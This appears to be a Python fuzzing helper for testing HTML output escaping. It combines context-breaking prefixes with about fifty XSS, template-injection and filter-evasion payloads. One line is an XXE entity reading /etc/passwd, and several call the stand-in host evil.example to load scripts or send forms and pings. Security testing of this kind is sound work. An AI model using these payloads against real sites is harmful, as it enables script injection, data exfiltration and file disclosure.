"""Hostile words, made of shapes and surroundings: as many as are asked for.

``TAWTHIQ_PAYLOADS`` says how many; `make slow` asks for 500.
"""

import os
from itertools import product

NUMBER = int(os.environ.get("TAWTHIQ_PAYLOADS", "40"))

BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "-->",
    "</bdi></main>",
    "</script>",
    "]]>",
)
"""What would end the place that the words stand in."""

SHAPES = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<body onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=//evil.example ping=//evil.example>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=//evil.example>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<x onclick=alert(1) tabindex=1 style=position:fixed>x</x>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '" style="background:url(//evil.example)',
    '" autofocus onfocus=alert(1) accesskey="x',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }}{% csrf_token %}{% include 'x' %}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<sCrIpT>alert(1)</ScRiPt>",
    "<script\x0c>alert(1)</script\x0c>",
    "<<script>alert(1)//<</script>",
    "<!--><script>alert(1)</script-->",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "\u202e<b>gpj.exe</b>\u2066",
)


def payloads(number: int = NUMBER) -> list[str]:
    """Give so many, each once, every shape before any surroundings come again."""
    made = [f"{before}{shape}" for before, shape in product(BREAKS, SHAPES)]
    # Each is told by its number, and by an Arabic word, so that pages hold a name.
    return [f"سوق {at} {words}" for at, words in enumerate(made)][:number]
